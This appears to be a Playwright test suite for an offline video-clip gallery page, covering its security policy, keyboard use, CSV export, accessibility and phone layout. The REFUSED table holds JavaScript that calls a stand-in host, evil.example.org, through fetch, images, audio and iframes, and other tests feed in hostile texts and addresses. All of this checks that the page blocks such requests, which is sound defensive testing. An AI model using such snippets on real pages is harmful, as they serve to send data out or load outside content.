"""A person at the gallery, in Chromium: opened by double click and from a server, with all that clips and texts can be.

One gallery is written for all tests, from files; each opens windows of its own.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Dialog, Locator, expect

from pixverse_dagster_tests.harness.factories import RUNWARE, make_row
from pixverse_dagster_tests.harness.fixtures import require
from pixverse_dagster_tests.harness.gallery import CANARY, HOSTILE, Films, Shot, fill, make_films
from pixverse_dagster_tests.harness.ranges import serving_folder
from pixverse_dagster_tests.harness.viewer import NARROW, Chromium, Viewer, open_chromium

SEARCH = quote("violinist rooftop")


@pytest.fixture(scope="module")
def films(tmp_path_factory: pytest.TempPathFactory) -> Films:
    """The clips, and their gallery beside them."""
    made = make_films(tmp_path_factory.mktemp("gallery"))
    fill(made)
    made.write()
    return made


@pytest.fixture(scope="module")
def served(films: Films) -> Iterator[str]:
    """The page's address where a server has the store's folder."""
    with serving_folder(films.root) as address:
        yield f"{address}/{films.pipeline}/gallery/index.html"


@pytest.fixture(scope="module")
def chromium() -> Iterator[Chromium]:
    require("chromium")
    with open_chromium() as browser:
        yield browser


@pytest.fixture
def browser(chromium: Chromium) -> Iterator[Chromium]:
    """The browser, without the windows of other tests."""
    yield chromium
    chromium.close_pages()


@pytest.fixture(params=["file", "http"])
def page(request: pytest.FixtureRequest, films: Films) -> Path | str:
    """The page, as one opens it by double click, and from a server."""
    return films.page if request.param == "file" else request.getfixturevalue("served")


def shown_ids(viewer: Viewer) -> list[str]:
    """The ids of the cards that are drawn."""
    return [str(card.get_attribute("data-id")) for card in viewer.cards.all()]


def exported(viewer: Viewer, button: Locator) -> tuple[bytes, list[dict[str, str]]]:
    """What the export has: its bytes, and its lines."""
    with viewer.page.expect_download() as download:
        button.press("Enter")
    data = download.value.path().read_bytes()
    return data, list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- what it asks for, and what it refuses


def test_it_opens_without_a_server_and_asks_for_nothing_but_its_own_files(browser: Chromium, page: Path | str):
    """Also when a clip is opened and clips are compared; no request to another host, and nothing was refused."""
    viewer = browser.view(page)
    viewer.open(f"#/?q={SEARCH}")
    expect(viewer.cards.first).to_be_visible()
    compared = [quote(one) for one in shown_ids(viewer)[:2]]
    viewer.open(f"#/clip/{compared[0]}")
    viewer.open(f"#/compare/{','.join(compared)}")
    viewer.check()


REFUSED = {
    "connect-src": "fetch('https://evil.example.org/').catch(() => 0)",
    "img-src": "new Promise((end) => Object.assign(new Image(), {onerror: end, src: 'https://evil.example.org/x.png'}))",
    "media-src": "new Promise((end) => Object.assign(new Audio(), {onerror: end, src: 'https://evil.example.org/x.mp4'}))",
    "frame-src": "new Promise((end) => { const frame = document.createElement('iframe'); frame.onload = end; "
    "frame.src = 'https://evil.example.org/'; document.body.append(frame) })",
    "require-trusted-types-for": "Promise.resolve().then(() => { document.body.innerHTML = '<b>x</b>' })",
}


@pytest.mark.parametrize("directive", REFUSED)
def test_what_would_reach_elsewhere_is_refused_by_the_browser(browser: Chromium, films: Films, directive: str):
    """If something got into the page after all: it can neither send nor load nor run anything."""
    viewer = browser.view(films.page)
    viewer.open()
    viewer.page.evaluate(f"void ({REFUSED[directive]}).catch(() => 0)")
    viewer.wait_for("window.violations.length > 0")
    assert any(one.startswith(directive) for one in viewer.violations), viewer.violations
    assert viewer.page.locator("main").count() == 1


def test_no_permission_is_in_any_file(films: Films):
    """Signed links came in by reasons, notes, results and the address of an image; only their words came out."""
    written = [path for path in films.folder.rglob("*") if path.is_file()]
    assert len(written) > 50
    assert [path for path in written if CANARY.encode() in path.read_bytes()] == []
    assert any(b"internal error" in path.read_bytes() for path in written)


# --- what texts and names can be


def test_hostile_texts_are_texts(browser: Chromium, films: Films):
    """Each of them is on a card and on a clip's page as it is; nothing runs, and nothing is named by it."""
    viewer = browser.view(films.page)
    viewer.open("#/?q=row%3Ahostile")
    hostile = sorted(path.parent.parent.name for path in films.root.glob("films/clips/hostile-*/*/1.mp4"))
    assert len(hostile) == len(HOSTILE)
    for path in sorted(films.root.glob("films/clips/hostile-*/*/1.mp4")):
        viewer.page.evaluate(
            "(hash) => { location.hash = hash }", f"#/clip/{path.parent.parent.name}/{path.parent.name}/1"
        )
        expect(viewer.page.locator("clip-page h1")).to_contain_text(path.parent.parent.name)
    viewer.check()


NOWHERE = ("#/clip/%", "#/clip/none/0/1", "#/compare/", "#/compare/a,b", "#/x", "#javascript:1", "#/clip/%00")


def test_an_address_that_leads_nowhere_says_so(browser: Chromium, films: Films):
    """In one line, with a way back."""
    viewer = browser.view(films.page)
    viewer.open()
    for hash_ in NOWHERE:
        viewer.go(hash_)
        said = re.compile("leads nowhere|no such clip|none of these|no clip", re.IGNORECASE)
        expect(viewer.page.locator(".page")).to_contain_text(said)
        expect(viewer.page.get_by_role("button", name="All clips")).to_be_visible()
    viewer.check()


def test_clips_of_rows_with_odd_names_play(browser: Chromium, page: Path | str, films: Films):
    """A row `a/b` is the file `a%2Fb`, and so `%252F` in its address: each plays, by double click and from a server."""
    viewer = browser.view(page)
    viewer.open("#/?q=%22odd+row%22")
    odd = sorted({path.parent.parent.name for path in films.root.glob("films/clips/*/*/1.mp4")})
    found = [one for one in odd if not re.match(r"(shot|hostile|violin|from)", one)]
    assert len(found) > 20
    for name in found:
        (path,) = films.root.glob(f"films/clips/{name}/*/1.mp4")
        viewer.page.evaluate("(hash) => { location.hash = hash }", f"#/clip/{quote(name)}/{path.parent.name}/1")
        video = viewer.page.locator("clip-page video")
        expect(video).to_have_attribute("src", re.compile(re.escape(quote(name))))
        assert video.evaluate("(video) => (video.muted = true, video.play().then(() => video.videoWidth))") > 0, name
    viewer.check()


# --- keys, marks and their file


def test_without_a_mouse_from_the_address_to_an_exported_file(browser: Chromium, films: Films):
    """Tab to the sheet, arrows, pick, reject, note, and out to a CSV that any tool reads and that joins by its key."""
    viewer = browser.view(films.page)
    keys = viewer.page.keyboard
    viewer.open(f"#/?q={SEARCH}&sort=row")
    expect(viewer.cards.first).to_be_visible()
    found = shown_ids(viewer)
    keys.press("Tab")
    assert "Skip" in viewer.focused
    keys.press("Enter")
    keys.press("Tab")
    assert viewer.focused_id == found[0]
    keys.press("Shift+P")
    assert viewer.focused_id == found[1]
    keys.press("x")
    keys.press("ArrowRight")
    keys.press("n")
    keys.type('=too fast, "again"\u00e9')
    keys.press("Enter")
    expect(viewer.page.locator("clip-bar")).to_contain_text("1 picked, 1 rejected, 1 noted")
    data, lines = exported(viewer, viewer.page.locator("clip-bar").get_by_role("button", name="Export CSV"))
    assert data.startswith(b"\xef\xbb\xbfrow,take,attempt,output,clip,mark,note,model,marked_at\r\n")
    assert {line["clip"]: (line["mark"], line["note"]) for line in lines} == {
        f"films/clips/{found[0]}": ("pick", ""),
        f"films/clips/{found[1]}": ("reject", ""),
        f"films/clips/{found[2]}": ("", '\'=too fast, "again"\u00e9'),
    }
    assert all(films.root.joinpath(f"{line['clip']}.mp4").exists() for line in lines if line["model"] == RUNWARE)
    viewer.check()


def test_the_last_card_is_one_key_away_and_escape_leads_back_to_it(browser: Chromium, films: Films):
    """End reaches it and it has the focus; from its page one comes back to the same card at the same place."""
    viewer = browser.view(films.page)
    viewer.open()
    viewer.cards.first.focus()
    viewer.page.keyboard.press("End")
    expect(viewer.page.locator(":focus")).to_be_in_viewport()
    last, at = viewer.focused_id, viewer.grid.evaluate("(grid) => grid.scrollTop")
    rows = int(viewer.grid.get_attribute("aria-rowcount") or 0)
    assert viewer.page.locator("[role=row]:has(:focus)").get_attribute("aria-rowindex") == str(rows)
    viewer.page.keyboard.press("Enter")
    expect(viewer.page.locator("clip-page h1")).to_be_focused()
    viewer.page.keyboard.press("Escape")
    assert (viewer.focused_id, viewer.grid.evaluate("(grid) => grid.scrollTop")) == (last, at)


def test_the_counts_of_the_filters_are_those_of_the_list_and_an_address_brings_them_back(
    browser: Chromium, films: Films
):
    """Each value of each facet; and what stands in the address is the same list elsewhere."""
    viewer = browser.view(films.page)
    viewer.open("#/?q=shot")
    for facet in ("model", "label:campaign"):
        for box in viewer.page.locator(f"fieldset[data-facet='{facet}'] label:visible").all():
            count = (box.locator(".count").text_content() or "").strip()
            box.get_by_role("checkbox").check()
            expect(viewer.page.locator("clip-top .count")).to_have_text(re.compile(f"^{count} of "))
            box.get_by_role("checkbox").uncheck()
    viewer.page.get_by_label(re.compile("rain-series")).check()
    viewer.page.get_by_label("Order").select_option("prompt")
    expect(viewer.cards).to_have_count(8)
    viewer.wait_for("location.hash.includes('rain-series') && location.hash.includes('sort=prompt')")
    address, found = viewer.page.url, shown_ids(viewer)
    other = browser.view(address)
    other.open()
    expect(other.cards).to_have_count(len(found))
    assert shown_ids(other) == found


def test_marks_survive_a_reload_and_a_gallery_that_was_written_again(browser: Chromium, tmp_path: Path):
    """And two galleries on one machine, of the same name, keep theirs apart."""
    one, other = make_films(tmp_path / "one"), make_films(tmp_path / "other")
    for films in (one, other):
        films.add(*(Shot(make_row(f"r{n}", RUNWARE, prompt=f"take {n}")) for n in range(3)))
        films.write()
    viewer = browser.view(one.page)
    viewer.open()
    viewer.card("take 1").focus()
    viewer.page.keyboard.press("p")
    one.add(Shot(make_row("late", RUNWARE, prompt="late")))
    one.write()
    viewer.page.reload()
    expect(viewer.cards).to_have_count(4)
    expect(viewer.card("take 1")).to_have_attribute("data-mark", "pick")
    viewer.page.goto(other.page.as_uri())
    expect(viewer.cards).to_have_count(3)
    expect(viewer.page.locator("[data-mark]")).to_have_count(0)


def test_exported_marks_come_back_on_another_machine(browser: Chromium, films: Films):
    """By the file alone."""
    viewer, other = browser.view(films.page), browser.view(films.page)
    viewer.open("#/?q=shot")
    viewer.cards.nth(2).focus()
    viewer.page.keyboard.press("p")
    marked = viewer.focused_id
    data, _ = exported(viewer, viewer.page.locator("clip-bar").get_by_role("button", name="Export CSV"))
    other.open("#/?q=shot")
    with other.page.expect_file_chooser() as chooser:
        other.page.get_by_role("button", name="Import marks").press("Enter")
    chooser.value.set_files([{"name": "picks.csv", "mimeType": "text/csv", "buffer": data}])
    expect(other.page.locator(f"[data-id='{marked}']")).to_have_attribute("data-mark", "pick")


def test_where_the_browser_keeps_nothing_it_says_so_and_asks_before_leaving(browser: Chromium, films: Films):
    """The marks are there until then, and go out to a file."""
    refuse = (
        "Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('no', 'SecurityError') } });"
    )
    viewer = browser.view(films.page, script=refuse)
    viewer.open("#/?q=shot")
    expect(viewer.page.locator(".notice.warn")).to_contain_text("keeps no marks")
    viewer.cards.first.focus()
    viewer.page.keyboard.press("p")
    expect(viewer.cards.first).to_have_attribute("data-mark", "pick")
    asked: list[str] = []

    def leave(dialog: Dialog) -> None:
        asked.append(dialog.type)
        dialog.accept()

    viewer.page.on("dialog", leave)
    viewer.page.evaluate("location.reload()")
    viewer.wait()
    assert asked == ["beforeunload"]


# --- side by side


def test_clips_side_by_side_start_together_and_stay_so(browser: Chromium, films: Films):
    """Unequal lengths and one without its file: in each of three rounds they come to be within 0.15 s."""
    viewer = browser.view(films.page)
    viewer.open(f"#/?q={SEARCH}")
    found = shown_ids(viewer)[:5]
    gone = next(one for one in found if films.clip(one, "mp4").exists())
    hidden = films.clip(gone, "hidden")
    films.clip(gone, "mp4").rename(hidden)
    try:
        viewer.open(f"#/compare/{','.join(map(quote, found))}")
        expect(viewer.page.locator("figure.absent")).to_have_count(1)
        expect(viewer.page.locator("figure.absent")).to_contain_text("not at its place")
        for _ in range(3):
            viewer.wait_for(TOGETHER)
            viewer.wait_for(f"!({TOGETHER})")
    finally:
        hidden.rename(films.clip(gone, "mp4"))
    viewer.check()


TOGETHER = """(() => {
  const playing = [...document.querySelectorAll('figure.tile:not(.absent) video')];
  const going = playing.filter((one) => !one.ended && one.currentTime < one.duration - 0.05);
  const times = going.map((one) => one.currentTime);
  const [first, last] = [Math.min(...times), Math.max(...times)];
  return playing.length === 4 && times.length >= 3 && first > 0.1 && last - first < 0.15;
})()"""


# --- what is not there


def test_what_is_missing_says_so_where_it_is_missing(browser: Chromium, tmp_path: Path):
    """A poster, and a clip: on the card and on the page, with the key of the file."""
    films = make_films(tmp_path)
    films.add(*(Shot(make_row(f"r{n}", RUNWARE, prompt=f"take {n}")) for n in range(2)))
    films.write()
    viewer = browser.view(films.page)
    viewer.open()
    first = shown_ids(viewer)[0]
    films.clip(first, "mp4").unlink()
    for thumb in films.folder.glob("thumbs/*.jpg"):
        thumb.unlink()
    viewer.page.reload()
    expect(viewer.page.get_by_text("Picture missing")).to_have_count(2)
    viewer.cards.first.focus()
    viewer.page.keyboard.press("Space")
    expect(viewer.cards.first).to_contain_text("Clip missing")
    viewer.page.keyboard.press("Enter")
    expect(viewer.page.locator("clip-page")).to_contain_text(f"films/clips/{first}.mp4")


@pytest.mark.parametrize("clips", [0, 1])
def test_a_gallery_of_few_clips_is_one_as_well(browser: Chromium, tmp_path: Path, clips: int):
    """None, and one: said, and without an error."""
    films = make_films(tmp_path)
    films.add(*(Shot(make_row(f"r{n}", RUNWARE, prompt=f"take {n}")) for n in range(clips)))
    films.write()
    viewer = browser.view(films.page)
    viewer.open()
    expect(viewer.cards).to_have_count(clips)
    expect(viewer.page.locator("clip-top .count")).to_have_text(f"{clips} of {clips}")
    assert ("There are no clips yet" in viewer.page.locator("main").inner_text()) is (clips == 0)
    viewer.check()


# --- for everybody


PLACES = {"sheet": "", "clip": "#/clip/{0}", "compare": "#/compare/{0},{1}"}


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("place", PLACES)
def test_axe_finds_nothing(browser: Chromium, films: Films, place: str, scheme: Any):
    """WCAG 2.0 to 2.2, A and AA, on all pages, light and dark; with marks, a choice and a note on them."""
    viewer = browser.view(films.page, color_scheme=scheme)
    viewer.open(f"#/?q={SEARCH}")
    found = [quote(one) for one in shown_ids(viewer)]
    viewer.cards.first.focus()
    for key in ("c", "Shift+P", "c", "Shift+X"):
        viewer.page.keyboard.press(key)
    viewer.go(PLACES[place].format(*found))
    assert viewer.findings() == []


@pytest.mark.parametrize("place", PLACES)
def test_on_a_phone_nothing_is_out_of_sight(browser: Chromium, films: Films, place: str):
    """390 px wide: no page scrolls sideways."""
    viewer = browser.view(films.page, size=NARROW, has_touch=True, is_mobile=True, device_scale_factor=2)
    viewer.open(f"#/?q={SEARCH}")
    found = [quote(one) for one in shown_ids(viewer)]
    viewer.go(PLACES[place].format(*found))
    width = "document.scrollingElement.scrollWidth - document.scrollingElement.clientWidth"
    assert viewer.page.evaluate(width) == 0
    assert viewer.findings() == []


def test_on_a_phone_a_tap_on_the_picture_plays_and_one_on_the_words_opens(browser: Chromium, films: Films):
    """And the filters are a sheet of their own, that says what it will show."""
    viewer = browser.view(films.page, size=NARROW, has_touch=True, is_mobile=True)
    viewer.open(f"#/?q={SEARCH}")
    viewer.cards.first.locator(".poster").tap()
    assert viewer.plays()
    viewer.page.get_by_role("button", name="Filters").tap()
    viewer.page.get_by_role("button", name=re.compile(r"^Show \d+ clips")).tap()
    viewer.cards.first.locator(".prompt").tap()
    expect(viewer.page.locator("clip-page h1")).to_be_visible()
    viewer.check()


def test_only_one_clip_plays_on_the_sheet_and_none_by_itself(browser: Chromium, films: Films):
    """The mouse over a card plays it, and leaving it takes the source away; with reduced motion only Space plays."""
    viewer = browser.view(films.page)
    viewer.open(f"#/?q={SEARCH}")
    for n in range(3):
        viewer.cards.nth(n).hover()
        assert viewer.plays()
        expect(viewer.page.locator("video")).to_have_count(1)
    viewer.page.mouse.move(5, 5)
    expect(viewer.page.locator("video")).to_have_count(0)
    calm = browser.view(films.page, reduced_motion="reduce")
    calm.open(f"#/?q={SEARCH}")
    calm.cards.first.hover()
    calm.cards.nth(1).focus()
    calm.page.keyboard.press("Space")
    assert calm.plays()
    expect(calm.page.locator("video")).to_have_count(1)
